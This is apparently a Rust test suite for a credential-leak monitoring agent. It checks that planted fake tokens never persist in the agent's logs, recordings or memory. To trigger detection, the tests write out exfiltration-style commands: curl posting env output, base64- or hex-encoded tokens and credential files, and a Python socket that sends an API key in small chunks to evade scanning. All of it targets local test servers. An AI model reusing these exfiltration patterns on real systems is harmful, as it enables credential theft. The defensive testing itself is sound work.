//! No secret is kept: not in output, logs, state or recordings, and two seconds later not in memory either.

use crate::{
    agent::{Agent, Setup},
    command::{act, sh},
    events::{Ask as _, now_ns, parse, parse_lines, wall_ns},
    leak::Scanner,
    machine::{Scratch, is_slow, patience, turn, wait_for},
    plant::{self, Planted, secrets},
    server::{Sink, TlsServer},
    stream::Reader,
    trace,
};
use serde_json::Value;
use std::{fs, path::Path, time::Duration};

/// Everything the agent handles: files, environments, arguments, TLS and clear text, encoded and split.
struct Acts {
    planted: Vec<Planted>,
    tls: TlsServer,
    sink: Sink,
}

impl Acts {
    fn new(scratch: &Scratch) -> (Self, std::path::PathBuf, std::path::PathBuf) {
        let home = scratch.make("home");
        let (aws, aws_file) = plant::aws_credentials(&home);
        let account_file = home.join("exporter-key.json");
        let account = plant::service_account(&account_file);
        let acts = Self {
            planted: vec![
                aws,
                account,
                plant::github(),
                plant::npm(),
                plant::stripe(),
                plant::anthropic(),
                plant::slack(),
                plant::database_url(),
                plant::typed_password(),
            ],
            tls: TlsServer::start(&scratch.join("server")),
            sink: Sink::http(),
        };
        (acts, aws_file, account_file)
    }

    fn with_tokens(&self, mut act: crate::command::Act) -> crate::command::Act {
        let (_, typed) = self.planted.split_last().unwrap();
        for token in &typed[2..] {
            act = act.env(token.name, &token.value);
        }
        act
    }

    /// Does all of it; gives the pids of what it started.
    fn perform(&self, aws: &Path, account: &Path) -> Vec<u32> {
        let mut pids = Vec::new();
        let script = "cat \"$3\" \"$4\" >/dev/null
            curl -sk -H \"Authorization: Bearer $GITHUB_TOKEN\" \"$1\"
            curl -sk -u \"x-access-token:$GITHUB_TOKEN\" \"$1\"
            curl -s -d \"$(env)\" http://127.0.0.1:$2/upload
            curl -s --data-urlencode \"k=$STRIPE_SECRET_KEY\" http://127.0.0.1:$2/percent
            printf %s \"$NPM_TOKEN\" | od -An -v -tx1 | tr -d ' \\n' | curl -s --data-binary @- http://127.0.0.1:$2/hex
            env | base64 | curl -sk --data-binary @- \"$1\"
            curl -sk --data-binary @\"$4\" \"$1\"; :";
        let done = self
            .with_tokens(sh(script))
            .arg(self.tls.url("/all"))
            .arg(self.sink.port.to_string())
            .arg(aws)
            .arg(account)
            .run()
            .ok();
        pids.push(done.pid);
        // Written in small pieces, so that the secret is never in one payload; the connection stays open a while.
        let pieces = "import os,socket,sys,time
s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))
t=os.environ['ANTHROPIC_API_KEY']
for i in range(0,len(t),7): s.sendall(t[i:i+7].encode())
b=open(sys.argv[2],'rb').read()
for i in range(0,len(b),500): s.sendall(b[i:i+500])
time.sleep(0.3)";
        let done = self
            .with_tokens(act("/usr/bin/python3"))
            .args(["-c", pieces])
            .arg(self.sink.port.to_string())
            .arg(account)
            .run()
            .ok();
        pids.push(done.pid);
        // Typed as MySQL takes it: only program and flag say what it is. Nothing is sent.
        let typed = self.planted.last().unwrap();
        self.with_tokens(act("/bin/true"))
            .arg0("mysql")
            .args(["-uroot", &format!("-p{}", typed.value), "shop"])
            .run()
            .ok();
        pids
    }
}

/// Waits until the agent has been quiet for two seconds.
fn two_seconds_after_the_last_event(agent: &Agent) {
    agent.wait_idle();
    wait_for("two quiet seconds", patience(60), || {
        let events = agent.events();
        // Of this test: others may use credentials on this machine at any time.
        let last = events
            .iter()
            .filter(|e| e.in_tree(std::process::id()))
            .filter_map(|e| e.time.as_ref().map(wall_ns))
            .max()?;
        (now_ns() > last + 2_000_000_000).then_some(())
    });
}

/// `trace` has an agent in itself.
fn trace_in_between(scratch: &Scratch, acts: &Acts) {
    let traced = trace::run(
        scratch,
        acts.with_tokens(
            trace::command(
                scratch,
                &[
                    "--record",
                    scratch.join("trace-recording.jsonl").to_str().unwrap(),
                ],
            )
            .arg("sh"),
        )
        .args([
            "-c",
            "curl -s -d \"$(env)\" http://127.0.0.1:$1/trace; :",
            "sh",
        ])
        .arg(acts.sink.port.to_string()),
    );
    drop(traced);
}

fn nothing_in_memory(scanner: &Scanner, pid: u32) {
    let memory = scanner.memory(pid);
    println!(
        "memory: {} mappings, {} MiB, of which {} rings with {} MiB; not readable: {:?}",
        memory.mappings,
        memory.bytes >> 20,
        memory.rings,
        memory.ring_bytes >> 20,
        memory.unreadable
    );
    assert!(memory.found.is_empty(), "{:#?}", memory.found);
    assert!(
        memory.rings > 0 && memory.ring_bytes > 0,
        "no ring was searched: {memory:?}"
    );
}

/// Each output is there, has something in it, and none of it is planted.
fn nothing_in_files(scanner: &Scanner, scratch: &Scratch) {
    let places = [
        scratch.join("agent"),
        scratch.join("trace-state"),
        scratch.join("trace.jsonl"),
        scratch.join("trace-recording.jsonl"),
    ];
    let places: Vec<_> = places.into_iter().filter(|p| p.exists()).collect();
    let files = scanner.files(&places, &[]);
    println!("files: {} with {} KiB", files.files, files.bytes >> 10);
    assert!(files.found.is_empty(), "{:#?}", files.found);
    assert!(files.files > 8, "{files:?}");
    for name in [
        "stderr",
        "recording.jsonl",
        "recording.1.jsonl",
        "grpc.jsonl",
        "stdout.1",
        "stdout.2",
        "json",
        "compact",
        "wide",
    ] {
        let length = fs::metadata(scratch.join("agent").join(name))
            .unwrap()
            .len();
        assert!(length > 0, "{name} is empty: nothing was searched there");
    }
}

/// After a run with everything, none of the planted secrets is anywhere in the agent's outputs, files and memory.
pub fn nothing_planted_is_kept() {
    let _turn = turn();
    let scratch = Scratch::new();
    let (acts, aws, account) = Acts::new(&scratch);
    let recording = scratch.join("agent/recording.jsonl");
    let agent = Setup::new(&scratch)
        .config("process_events = true\n[log]\nlevel = \"debug\"")
        .arg("--record")
        .arg(&recording)
        .start();
    let formats = ["json", "compact", "wide"];
    let watches = formats.map(|format| agent.watch(format));
    let reader = Reader::start(&agent.socket(), None);
    // A process of before is in the game too: what is read from /proc.
    let idle = acts.with_tokens(act("sleep").arg("600")).spawn();
    let pids = acts.perform(&aws, &account);
    for pid in &pids {
        agent.expect("a send", *pid, |e| {
            e.is("credential_sent") && e.grade() == "observed" && e.in_tree(*pid)
        });
    }

    // The restarted agent learns them from /proc.
    agent.wait_idle();
    let first = reader.events();
    drop(reader);
    // Outputs are put where the search will look.
    let keep =
        |name: &str, bytes: &[u8]| fs::write(scratch.join("agent").join(name), bytes).unwrap();
    for (format, watch) in formats.iter().zip(&watches) {
        keep(format, &watch.written());
    }
    drop(watches);
    keep("stdout.1", &agent.printed());
    let setup = agent.kill().arg("--process-events");
    fs::rename(&recording, scratch.join("agent/recording.1.jsonl")).unwrap();
    let agent = setup.start();
    let reader = Reader::start(&agent.socket(), None);
    agent.expect("the holder of before", idle.pid(), |e| {
        e.is("credential_exposed") && e.pid() == idle.pid()
    });
    acts.perform(&aws, &account);

    trace_in_between(&scratch, &acts);
    two_seconds_after_the_last_event(&agent);
    let mut recorded: Vec<String> = Vec::new();
    for event in first.iter().chain(&reader.events()) {
        recorded.push(serde_json::to_string(event).unwrap());
    }
    assert!(
        recorded.len() > 20,
        "the stream had {} events",
        recorded.len()
    );
    let printed = agent.printed();

    let scanner = Scanner::new(&secrets(&acts.planted));
    nothing_in_memory(&scanner, agent.pid());
    if !is_slow() {
        let image = scanner.core_image(agent.pid(), scratch.path());
        println!("core image: {} MiB", image.bytes >> 20);
        assert!(image.found.is_empty(), "{:#?}", image.found);
    }
    keep("stdout.2", &printed);
    keep("grpc.jsonl", recorded.join("\n").as_bytes());
    nothing_in_files(&scanner, &scratch);
    // The control: the same search convicts a process that does hold them.
    let convicted = scanner.memory(idle.pid()).found;
    assert!(convicted.len() > 5, "{convicted:?}");
    assert!(!scanner.files(&[scratch.join("home")], &[]).found.is_empty());
}

/// A file that is named after the token in it: the token is in nothing that is shown or kept. (In memory the name is as long as the
/// file is followed, which is by its name.)
pub fn named_after_what_is_in_it() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let file = scratch.make("home").join(format!("{}.env", token.value));
    fs::write(&file, format!("GITHUB_TOKEN={}\n", token.value)).unwrap();
    act("cat").arg(&file).run().ok();
    let shown = wait_for("the passport to have it", patience(20), || {
        let list = agent.client("credentials").args(["-o", "json"]).run();
        let list = list.stdout_text();
        let mut lines = list
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap());
        let of = lines.find(|of| of["credential"]["kind"] == "github-token")?;
        let passport = agent
            .client("credential")
            .arg(of["credential"]["fingerprint"].as_str().unwrap())
            .args(["-o", "json"])
            .run()
            .stdout_text();
        let has = passport.contains("/[redacted github-token ");
        has.then(|| format!("{list}{passport}"))
    });
    // Gone again, it is forgotten under the name it is known by.
    fs::remove_file(&file).unwrap();
    agent.wait_idle();
    let name = |name: &str| scratch.join("agent").join(name);
    fs::write(name("shown"), shown).unwrap();
    fs::write(name("events"), agent.printed()).unwrap();
    let scanner = Scanner::new(&secrets(&[token]));
    let files = scanner.files(&[scratch.join("agent")], &[]);
    assert!(files.found.is_empty(), "{:#?}", files.found);
    assert!(files.files > 3, "{files:?}");
}

/// While credentials are in use all the time, an inspection of any moment may find one in flight, but they do not pile up:
/// after the load stops the agent is clean again.
pub fn load_leaves_nothing() {
    let _turn = turn();
    let scratch = Scratch::new();
    let tls = TlsServer::start(&scratch.join("server"));
    let agent = Agent::start(&scratch);
    let tokens: Vec<Planted> = (0..20).map(|_| plant::github()).collect();
    for token in &tokens {
        sh("for i in 1 2 3; do curl -sk -H \"Authorization: Bearer $GITHUB_TOKEN\" \"$1\"; done")
            .arg(tls.url("/load"))
            .env("GITHUB_TOKEN", &token.value)
            .run()
            .ok();
    }
    two_seconds_after_the_last_event(&agent);
    std::thread::sleep(Duration::from_millis(200));
    let found = Scanner::new(&secrets(&tokens)).memory(agent.pid()).found;
    assert!(found.is_empty(), "{found:#?}");
}

/// The control of the above: records that the agent has not come to yet hold secrets, and the search finds them in
/// its mapped rings. Once it has come to them, they are gone from there too.
pub fn rings_are_searched() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let scanner = Scanner::new(&token.secrets);
    assert!(scanner.memory(agent.pid()).found.is_empty());
    agent.pause();
    let done = act("true").env("GITHUB_TOKEN", &token.value).run().ok();
    // The search lets it go on.
    let waiting = scanner.memory(agent.pid());
    assert!(
        waiting.found.iter().any(|f| f.contains("bpf-map")),
        "a full ring and nothing found: {waiting:?}"
    );
    agent.expect("the exposure", done.pid, |e| {
        e.is("credential_exposed") && e.pid() == done.pid
    });
    two_seconds_after_the_last_event(&agent);
    let found = scanner.memory(agent.pid()).found;
    assert!(found.is_empty(), "{found:#?}");
}

/// A recording replays to the very bytes that were printed, every time.
pub fn recording_replays_byte_by_byte() {
    let _turn = turn();
    let scratch = Scratch::new();
    let (acts, aws, account) = Acts::new(&scratch);
    let recording = scratch.join("recording.jsonl");
    let agent = Setup::new(&scratch).arg("--record").arg(&recording).start();
    let watch = agent.watch("json");
    let pids = acts.perform(&aws, &account);
    agent.wait_idle();
    assert!(pids.iter().any(|pid| {
        agent
            .tree(*pid)
            .iter()
            .any(|e| e.grade() == "observed" && e.is("credential_sent"))
    }));
    // Something undecided is left for the end.
    let _ = sh("curl -s -d other=bytes http://127.0.0.1:$1/; :")
        .arg(acts.sink.port.to_string())
        .env("GITHUB_TOKEN", plant::github().value)
        .run();
    agent.stop();
    let shown = String::from_utf8(watch.written()).unwrap();
    drop(watch);
    let printed = String::from_utf8(agent.printed()).unwrap();
    assert!(
        printed.len() > 10_000,
        "only {} bytes of events",
        printed.len()
    );
    let mut replays = Vec::new();
    for round in 1..=2 {
        let replayed = act(crate::machine::keytrail())
            .arg("replay")
            .arg(&recording)
            .args(["-o", "json"])
            .run()
            .ok()
            .stdout;
        let replayed = String::from_utf8(replayed).unwrap();
        // The agent prints what a client without filters gets: all but these two kinds.
        let shown: String = replayed
            .split_inclusive('\n')
            .filter(|line| !parse(line).what().starts_with("process_"))
            .collect();
        same_lines(&shown, &printed, round);
        // Every event, those of the stream among them, has its number.
        for (event, number) in parse_lines(&replayed).iter().zip(1..) {
            assert_eq!(event.sequence(), number, "a hole in the sequence");
        }
        replays.push(replayed);
    }
    assert!(replays[0] == replays[1], "two replays differ");
    // What watch showed are lines of it, unchanged.
    let lines: std::collections::BTreeSet<&str> = printed.lines().collect();
    for line in shown.lines() {
        assert!(
            lines.contains(line),
            "watch showed a line nobody printed: {line}"
        );
    }

    // A recording that was cut off, as after a crash, says so and gives what it has.
    let bytes = fs::read(&recording).unwrap();
    let cut = scratch.join("cut.jsonl");
    fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    let done = act(crate::machine::keytrail())
        .arg("replay")
        .arg(&cut)
        .args(["-o", "json"])
        .run();
    assert!(
        replays[0].starts_with(&done.stdout_text()),
        "another story from half a recording"
    );
    assert!(!done.stdout.is_empty());
    assert!(done.status.success() || !done.plain_words().is_empty());
}

/// Fails at the first line that differs.
fn same_lines(replayed: &str, printed: &str, round: u32) {
    for (number, (a, b)) in replayed.lines().zip(printed.lines()).enumerate() {
        assert_eq!(a, b, "round {round}: line {} differs", number + 1);
    }
    assert_eq!(
        replayed.lines().count(),
        printed.lines().count(),
        "round {round}: lines replayed and printed"
    );
    assert!(replayed == printed);
}
